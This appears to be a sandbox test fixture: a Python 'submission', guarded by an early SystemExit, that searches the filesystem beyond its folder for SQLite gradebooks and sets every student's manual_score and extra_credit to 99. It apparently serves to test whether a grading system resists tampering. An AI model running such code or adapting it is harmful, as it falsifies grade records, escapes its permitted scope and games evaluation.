"""The submission searches for the gradebook, and gives all students 99 points for all items.

points:
    every: 0
"""

raise SystemExit("made for the sandbox: never run this file")

# %% + first
import glob, os, sqlite3
folders = [".", "..", "../..", "../../..", "../../../..", "../../../../..", "/", "/root", "/srv"]
for folder in folders:
    for path in glob.glob(folder + "/*.db") + glob.glob(folder + "/*/*.db"):
        try:
            db = sqlite3.connect(path, timeout=2)
            tables = [row[0] for row in db.execute("select name from sqlite_master")]
            if "grade" in tables:
                print("READ", "OUTSIDE", path)
                db.execute("update grade set manual_score = 99, extra_credit = 99")
                db.commit()
        except Exception as error:
            print(type(error).__name__)
print("attack", "ran")

# %% every
def FUNCTION(*args, **kwargs):
    return None
